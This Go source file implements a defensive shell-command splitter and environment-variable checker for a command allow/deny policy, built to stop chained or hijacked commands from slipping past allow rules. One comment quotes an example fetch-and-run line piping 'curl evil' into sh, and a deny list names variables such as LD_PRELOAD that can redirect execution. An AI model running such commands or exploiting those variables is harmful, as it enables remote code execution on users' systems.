package policy

import (
	"errors"
	"fmt"
	"strings"
)

// The shell splitter exists so that an allow rule such as
// shell_exec(git status*) cannot be stretched over `git status && curl evil |
// sh`: every simple command the shell would run must be judged on its own.
//
// It is a lexer, not a shell: it knows just enough of the POSIX/bash grammar
// to find every place where a new command can start. Where its model of the
// grammar and bash's could disagree in a way that would hide a command, it
// reports an error instead of guessing, and the policy then lets no allow
// rule cover the command. Disagreements in the other direction (text bash
// treats as data that the splitter treats as a command, e.g. `$((1+2))` or a
// `case` pattern) only make the policy stricter.

// Errors reported by SplitShell. They are wrapped in a *ShellSyntaxError.
var (
	ErrUnterminated  = errors.New("unterminated quote, substitution or group")
	ErrUnbalanced    = errors.New("unbalanced )")
	ErrHeredoc       = errors.New("malformed or unterminated here-document")
	ErrBackslashNest = errors.New("escaped $, ` or \\ inside backticks (nested substitution) is not supported")
	ErrUnsupported   = errors.New("unsupported construct (quotes inside ${…} or arithmetic, or $(( that is not arithmetic)")
	ErrTooDeep       = errors.New("substitutions nested too deeply")
)

// ShellSyntaxError says why a command could not be split and where.
type ShellSyntaxError struct {
	Offset int // byte offset in the (sub)string being scanned
	Err    error
}

func (e *ShellSyntaxError) Error() string {
	return fmt.Sprintf("shell command: %v (at byte %d)", e.Err, e.Offset)
}

func (e *ShellSyntaxError) Unwrap() error { return e.Err }

// maxShellDepth bounds recursion so that hostile input such as 100 000 nested
// `$(` cannot exhaust the stack; no real command nests this deep.
const maxShellDepth = 64

// SplitShell splits a shell command line into the simple commands it would
// run, in the order they appear. Commands are separated by `;`, `&&`, `||`,
// `|`, `|&`, `&` and newlines; the contents of `$(…)`, backticks, `<(…)`,
// `>(…)` and `( … )` groups are split recursively and become commands of
// their own (the enclosing command keeps its text, substitution included).
// Quotes (single, double, $'…'), backslash escapes, `#` comments, `${…}`,
// arithmetic and here-documents are honoured: a separator inside them does
// not split, a comment is not part of a command, and a here-document body is
// data (only the substitutions of an unquoted one are commands).
// Redirections stay part of their command. Every returned part is a
// non-empty, trimmed substring of cmd.
//
// On a syntax error the returned parts are the commands recognised before
// the error, an incomplete list that is only fit for deny checks; the error
// is a *ShellSyntaxError.
func SplitShell(cmd string) ([]string, error) {
	sp := &splitter{s: cmd}
	// A here-document still pending at the end of the input is no error:
	// bash gives it an empty body (`cat <<EOF` alone) and nothing is hidden.
	_, err := sp.code(0, 0, 0)
	return sp.parts, err
}

type heredoc struct {
	level     int // the code() call that read the operator
	delim     string
	stripTabs bool // <<- strips leading tabs from body lines
	quoted    bool // a quoted delimiter makes the body literal
}

type splitter struct {
	s          string
	parts      []string
	heredocs   []heredoc // pending, their bodies start after the next newline
	inBacktick bool      // s is the content of a backtick substitution
	levels     int       // code() calls so far, to tell levels apart
}

func (sp *splitter) fail(i int, err error) error {
	return &ShellSyntaxError{Offset: i, Err: err}
}

func (sp *splitter) emit(part string) {
	if t := strings.TrimSpace(part); t != "" {
		sp.parts = append(sp.parts, t)
	}
}

// escape skips a backslash and the byte it escapes. Inside backticks bash
// first removes the backslash before $, ` and \ and then parses the result
// again, so `\$(cmd)` there IS a substitution; rather than model two
// parsing passes the splitter refuses such input.
func (sp *splitter) escape(i int) (int, error) {
	if sp.inBacktick && i+1 < len(sp.s) {
		switch sp.s[i+1] {
		case '$', '`', '\\':
			return i, sp.fail(i, ErrBackslashNest)
		}
	}
	return min(i+2, len(sp.s)), nil
}

// dollar handles the expansions that start with `$` at i and returns the
// index after them. Only $(…) runs a command, but ${…}, $((…)) and $[…] must
// be skipped as a whole: inside them `#` is no comment and `<<` no
// here-document, and misreading either would hide the text that follows.
// ansiC tells whether $'…' is a quote here (it is not inside "…").
func (sp *splitter) dollar(i, depth int, ansiC bool) (int, error) {
	s := sp.s
	next := byte(0)
	if i+1 < len(s) {
		next = s[i+1]
	}
	switch {
	case next == '(' && i+2 < len(s) && s[i+2] == '(':
		return sp.arith(i+3, ')', depth+1)
	case next == '(':
		return sp.code(i+2, ')', depth+1)
	case next == '[':
		return sp.arith(i+2, ']', depth+1)
	case next == '{':
		return sp.param(i+2, depth+1)
	case next == '\'' && ansiC:
		return sp.ansiC(i + 2)
	}
	return i + 1, nil
}

// wordStart reports whether a `#` at i begins a word, which is when bash
// treats it as the start of a comment. escEnd is the index just after the
// last backslash escape: an escaped blank or operator does not end a word.
func (sp *splitter) wordStart(i, escEnd int) bool {
	if i == 0 {
		return true
	}
	return i != escEnd && strings.IndexByte(" \t\n;&|()<>", sp.s[i-1]) >= 0
}

// code scans commands from i until the end of s (closer 0) or the closer
// `)` of a substitution or group, and returns the index after the closer.
func (sp *splitter) code(i int, closer byte, depth int) (int, error) {
	if depth > maxShellDepth {
		return i, sp.fail(i, ErrTooDeep)
	}
	s := sp.s
	sp.levels++
	level := sp.levels
	start := i    // where the current command begins
	comment := -1 // where a comment began in the current command, or -1
	escEnd := -1  // index just after the last backslash escape
	emit := func(end int) {
		if comment >= 0 {
			end = comment
		}
		sp.emit(s[start:end])
		comment = -1
	}
	var err error
	for i < len(s) {
		c := s[i]
		switch c {
		case '\\':
			i, err = sp.escape(i)
			escEnd = i
		case '\'':
			j := strings.IndexByte(s[i+1:], '\'')
			if j < 0 {
				return i, sp.fail(i, ErrUnterminated)
			}
			i += j + 2
		case '"':
			i, err = sp.dquote(i+1, depth)
		case '`':
			i, err = sp.backtick(i, depth)
		case '$':
			i, err = sp.dollar(i, depth, true)
		case '(':
			if i+1 < len(s) && s[i+1] == '(' {
				// bash reads `((` as arithmetic (a nested subshell needs
				// `( (`); `<<` inside it is a shift, not a here-document.
				i, err = sp.arith(i+2, ')', depth+1)
				break
			}
			// A subshell or group: its commands are parts of their own.
			emit(i)
			i, err = sp.code(i+1, ')', depth+1)
			start = i
		case ')':
			if closer != ')' {
				return i, sp.fail(i, ErrUnbalanced)
			}
			for _, h := range sp.heredocs {
				if h.level == level {
					// A here-document whose body would have to come from
					// outside its substitution: refuse rather than guess.
					return i, sp.fail(i, ErrHeredoc)
				}
			}
			emit(i)
			return i + 1, nil
		case '<', '>':
			next := byte(0)
			if i+1 < len(s) {
				next = s[i+1]
			}
			switch {
			case next == '(': // process substitution
				i, err = sp.code(i+2, ')', depth+1)
			case c == '<' && next == '<' && i+2 < len(s) && s[i+2] == '<': // here-string
				i += 3
			case c == '<' && next == '<':
				i, err = sp.heredocOp(i+2, level)
			case next == '&' || (c == '>' && next == '|'):
				// >&2, <&3, >| : the & or | belongs to the redirection.
				i += 2
			default:
				i++
			}
		case '&':
			if i+1 < len(s) && s[i+1] == '>' { // &> and &>> redirect
				i++
				break
			}
			emit(i)
			i++
			start = i
		case ';', '|':
			emit(i)
			i++
			start = i
		case '\n':
			emit(i)
			i, err = sp.readHeredocs(i+1, level, depth)
			start = i
		case '#':
			if comment < 0 && sp.wordStart(i, escEnd) {
				comment = i
				if j := strings.IndexByte(s[i:], '\n'); j >= 0 {
					i += j // the newline still separates and starts heredocs
				} else {
					i = len(s)
				}
			} else {
				i++
			}
		default:
			i++
		}
		if err != nil {
			return i, err
		}
	}
	if closer != 0 {
		return i, sp.fail(i, ErrUnterminated)
	}
	emit(len(s))
	return len(s), nil
}

// dquote scans a double-quoted string from just after its opening quote;
// substitutions inside it still run.
func (sp *splitter) dquote(i, depth int) (int, error) {
	s := sp.s
	var err error
	for i < len(s) {
		switch s[i] {
		case '\\':
			i, err = sp.escape(i)
		case '"':
			return i + 1, nil
		case '`':
			i, err = sp.backtick(i, depth)
		case '$':
			i, err = sp.dollar(i, depth, false)
		default:
			i++
		}
		if err != nil {
			return i, err
		}
	}
	return i, sp.fail(i, ErrUnterminated)
}

// ansiC scans a $'…' string from just after its opening quote; unlike '…'
// it honours backslash escapes, so `$'\”` is one quote character.
func (sp *splitter) ansiC(i int) (int, error) {
	s := sp.s
	for i < len(s) {
		switch s[i] {
		case '\\':
			i += 2
		case '\'':
			return i + 1, nil
		default:
			i++
		}
	}
	return i, sp.fail(i, ErrUnterminated)
}

// param scans a ${…} expansion from just after `${`. Its word may hold
// substitutions, which run; quotes inside it follow rules that differ
// between quoted and unquoted contexts, so they are refused rather than
// modelled.
func (sp *splitter) param(i, depth int) (int, error) {
	return sp.nested(i, '{', '}', depth)
}

// arith scans $((…)), ((…)) or $[…] from just after the opening, up to the
// closer (`))` for the parenthesised forms, `]` for $[…]). `<<` in it is a
// shift and `#` a base prefix, neither a here-document nor a comment.
func (sp *splitter) arith(i int, closer byte, depth int) (int, error) {
	if closer == ']' {
		return sp.nested(i, '[', ']', depth)
	}
	j, err := sp.nested(i, '(', ')', depth)
	if err != nil {
		return j, err
	}
	// bash reads `$((a) | (b))` as a command substitution holding
	// subshells when it is not arithmetic; rather than guess, refuse.
	if j >= len(sp.s) || sp.s[j] != ')' {
		return j, sp.fail(j, ErrUnsupported)
	}
	return j + 1, nil
}

// nested scans to the closer that balances open, looking only for the
// substitutions inside.
func (sp *splitter) nested(i int, open, closer byte, depth int) (int, error) {
	if depth > maxShellDepth {
		return i, sp.fail(i, ErrTooDeep)
	}
	s := sp.s
	level := 1
	var err error
	for i < len(s) {
		switch c := s[i]; c {
		case '\\':
			i, err = sp.escape(i)
		case '\'', '"':
			return i, sp.fail(i, ErrUnsupported)
		case '`':
			i, err = sp.backtick(i, depth)
		case '$':
			i, err = sp.dollar(i, depth, false)
		case open, closer:
			if c == open {
				level++
			} else {
				level--
			}
			i++
			if level == 0 {
				return i, nil
			}
		default:
			i++
		}
		if err != nil {
			return i, err
		}
	}
	return i, sp.fail(i, ErrUnterminated)
}

// backtick handles a `…` substitution starting at i. Like bash, it finds
// the closing backtick first (only backslashes escape, quotes do not count)
// and then splits the content as a command line of its own.
func (sp *splitter) backtick(i, depth int) (int, error) {
	if depth+1 > maxShellDepth {
		return i, sp.fail(i, ErrTooDeep)
	}
	s := sp.s
	j := i + 1
	for j < len(s) && s[j] != '`' {
		if s[j] == '\\' {
			j++
		}
		j++
	}
	if j >= len(s) {
		return i, sp.fail(i, ErrUnterminated)
	}
	sub := &splitter{s: s[i+1 : j], inBacktick: true}
	_, err := sub.code(0, 0, depth+1)
	sp.parts = append(sp.parts, sub.parts...)
	if err != nil {
		return i, err
	}
	return j + 1, nil
}

// heredocOp reads the delimiter word after `<<` or `<<-` and queues the
// here-document; its body starts after the next newline.
func (sp *splitter) heredocOp(i, level int) (int, error) {
	s := sp.s
	h := heredoc{level: level}
	if i < len(s) && s[i] == '-' {
		h.stripTabs = true
		i++
	}
	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
		i++
	}
	var delim strings.Builder
word:
	for i < len(s) {
		c := s[i]
		switch {
		case strings.IndexByte(" \t\n;&|<>()", c) >= 0:
			break word
		case c == '\\':
			h.quoted = true
			if i+1 < len(s) {
				delim.WriteByte(s[i+1])
			}
			i += 2
		case c == '\'' || c == '"':
			h.quoted = true
			j := strings.IndexByte(s[i+1:], c)
			if j < 0 {
				return i, sp.fail(i, ErrUnterminated)
			}
			delim.WriteString(s[i+1 : i+1+j])
			i += j + 2
		default:
			delim.WriteByte(c)
			i++
		}
	}
	i = min(i, len(s))
	if delim.Len() == 0 {
		return i, sp.fail(i, ErrHeredoc)
	}
	h.delim = delim.String()
	sp.heredocs = append(sp.heredocs, h)
	return i, nil
}

// readHeredocs skips the bodies of the pending here-documents, which start
// at i (just after a newline), and returns the index after the last
// delimiter line. The bodies of unquoted here-documents are expanded by the
// shell, so their substitutions are split as commands.
func (sp *splitter) readHeredocs(i, level, depth int) (int, error) {
	s := sp.s
	for _, h := range sp.heredocs {
		if h.level != level {
			// The operator was read inside a substitution that is still
			// open or already closed; where bash takes the body from then
			// is not worth modelling.
			return i, sp.fail(i, ErrHeredoc)
		}
		bodyStart := i
		for {
			if i >= len(s) {
				// bash would take the rest of the input as the body; an
				// unterminated body is more likely an attempt to confuse.
				return i, sp.fail(bodyStart, ErrHeredoc)
			}
			lineEnd := strings.IndexByte(s[i:], '\n')
			if lineEnd < 0 {
				lineEnd = len(s)
			} else {
				lineEnd += i
			}
			line := s[i:lineEnd]
			if h.stripTabs {
				line = strings.TrimLeft(line, "\t")
			}
			if line == h.delim {
				if !h.quoted {
					if err := sp.heredocBody(s[bodyStart:i], depth); err != nil {
						return i, err
					}
				}
				i = min(lineEnd+1, len(s))
				break
			}
			i = lineEnd + 1
		}
	}
	sp.heredocs = sp.heredocs[:0]
	return i, nil
}

// heredocBody splits the substitutions in an unquoted here-document body,
// where quotes are plain characters but $(…) and backticks still run.
func (sp *splitter) heredocBody(body string, depth int) error {
	sub := &splitter{s: body, inBacktick: sp.inBacktick}
	var err error
	for i := 0; i < len(body) && err == nil; {
		switch body[i] {
		case '\\':
			i, err = sub.escape(i)
		case '`':
			i, err = sub.backtick(i, depth)
		case '$':
			i, err = sub.dollar(i, depth, false)
		default:
			i++
		}
	}
	sp.parts = append(sp.parts, sub.parts...)
	return err
}

// shellKeywords may precede a command without changing which command runs;
// they are stripped before matching so that `if curl …` is seen as curl.
var shellKeywords = map[string]bool{
	"!": true, "{": true, "if": true, "then": true, "else": true, "elif": true,
	"do": true, "while": true, "until": true, "time": true,
}

// shellClosers end a compound command; a part made only of them and of
// keywords runs nothing.
var shellClosers = map[string]bool{"}": true, "fi": true, "done": true, "esac": true}

// shellForms returns the texts a command part is matched against. allow
// holds the forms an allow rule may match: the part itself and, after
// leading keywords and harmless environment assignments, the command that
// runs (`FOO=1 git status` → `git status`). deny additionally holds the
// command after any assignment (`LD_PRELOAD=x git status` → `git status`)
// and a copy without quotes and backslashes, so that `'rm' -rf` still meets
// a deny rule on rm. noop reports a part that is only shell syntax (`fi`,
// `done`, `}`) and needs no rule.
func shellForms(part string) (allow, deny []string, noop bool) {
	rest, keywordsOnly, unsafe := stripPrefix(part)
	if rest == "" && keywordsOnly {
		return nil, nil, true
	}
	allow = appendForms(allow, part)
	if rest != "" && rest != part && !unsafe {
		allow = appendForms(allow, rest)
	}
	deny = append(deny, allow...)
	if rest != "" && rest != part && unsafe {
		deny = appendForms(deny, rest)
	}
	for _, f := range deny {
		if u := unquote(f); u != f {
			deny = append(deny, u)
		}
	}
	return allow, deny, false
}

// appendForms adds s and, when different, s with every run of blanks
// collapsed to one space, so that `git  status` meets `git status*`.
func appendForms(forms []string, s string) []string {
	forms = append(forms, s)
	if c := strings.Join(strings.Fields(s), " "); c != s {
		forms = append(forms, c)
	}
	return forms
}

func unquote(s string) string {
	return strings.Map(func(r rune) rune {
		if r == '\'' || r == '"' || r == '\\' {
			return -1
		}
		return r
	}, s)
}

// stripPrefix removes leading keywords and variable assignments from a
// part. keywordsOnly reports that the part held nothing but keywords and
// closers; unsafe that an assignment set a variable that can change which
// code runs or where data goes.
func stripPrefix(part string) (rest string, keywordsOnly, unsafe bool) {
	rest = part
	keywordsOnly = true
	for {
		rest = strings.TrimLeft(rest, " \t\n\r")
		if rest == "" {
			return "", keywordsOnly, unsafe
		}
		w := rest[:wordEnd(rest)]
		switch {
		case shellKeywords[w]:
		case shellClosers[w]:
			// A closer followed by more (`} > out`) is a real command.
			if strings.TrimSpace(rest[len(w):]) != "" {
				return rest, false, unsafe
			}
		default:
			name, ok := assignment(w)
			if !ok {
				return rest, false, unsafe
			}
			keywordsOnly = false
			if dangerousEnv(name) {
				unsafe = true
			}
		}
		rest = rest[len(w):]
	}
}

// wordEnd returns the length of the shell word at the start of s, which
// ends at the first blank outside quotes and substitutions.
func wordEnd(s string) int {
	depth := 0
	for i := 0; i < len(s); i++ {
		switch c := s[i]; c {
		case '\\':
			i++
		case '\'', '"', '`':
			j := strings.IndexByte(s[i+1:], c)
			if j < 0 {
				return len(s)
			}
			i += j + 1
		case '(':
			depth++
		case ')':
			depth--
		case ' ', '\t', '\n', '\r':
			if depth <= 0 {
				return i
			}
		}
	}
	return len(s)
}

// assignment reports whether w is NAME=…, NAME+=… or NAME[i]=… and
// returns NAME.
func assignment(w string) (string, bool) {
	i := 0
	for i < len(w) && (w[i] == '_' || w[i] >= 'A' && w[i] <= 'Z' || w[i] >= 'a' && w[i] <= 'z' || i > 0 && w[i] >= '0' && w[i] <= '9') {
		i++
	}
	if i == 0 {
		return "", false
	}
	name := w[:i]
	rest := w[i:]
	if strings.HasPrefix(rest, "[") {
		j := strings.IndexByte(rest, ']')
		if j < 0 {
			return "", false
		}
		rest = rest[j+1:]
	}
	rest = strings.TrimPrefix(rest, "+")
	return name, strings.HasPrefix(rest, "=")
}

// dangerousEnv reports variables that make an allowed command run other
// code (LD_PRELOAD, GIT_SSH_COMMAND, PAGER, NODE_OPTIONS, …), read another
// configuration (HOME), or send its traffic elsewhere (HTTPS_PROXY). A
// command behind one of them is covered only by a rule that names the
// assignment too. A list can never be complete, which is why it is only
// used to refuse, never to grant.
func dangerousEnv(name string) bool {
	n := strings.ToUpper(name)
	switch n {
	case "PATH", "IFS", "ENV", "SHELLOPTS", "BASHOPTS", "PS4", "PROMPT_COMMAND",
		"HOME", "EDITOR", "VISUAL", "BROWSER", "SSH_ASKPASS", "SUDO_ASKPASS",
		"GCONV_PATH", "CLASSPATH", "CC", "CXX", "LESSOPEN", "LESSCLOSE",
		"MAKEFLAGS", "CDPATH", "TERMINFO", "HOSTALIASES", "SHELL", "TMPDIR":
		return true
	}
	for _, p := range []string{"LD_", "DYLD_", "GIT_", "XDG_", "PYTHON", "PERL", "RUBY",
		"NODE_", "NPM_CONFIG_", "BASH_", "JAVA", "_JAVA", "MAVEN_", "GRADLE_",
		"CARGO", "RUST", "GO", "SSL_", "CURL_", "WGET", "BUNDLE_", "PIP_", "UV_"} {
		if strings.HasPrefix(n, p) {
			return true
		}
	}
	for _, s := range []string{"PAGER", "PROXY", "_OPTIONS", "_OPTS", "FLAGS", "_PATH", "_HOOK", "_COMMAND", "_CMD", "_EDITOR"} {
		if strings.HasSuffix(n, s) {
			return true
		}
	}
	return false
}
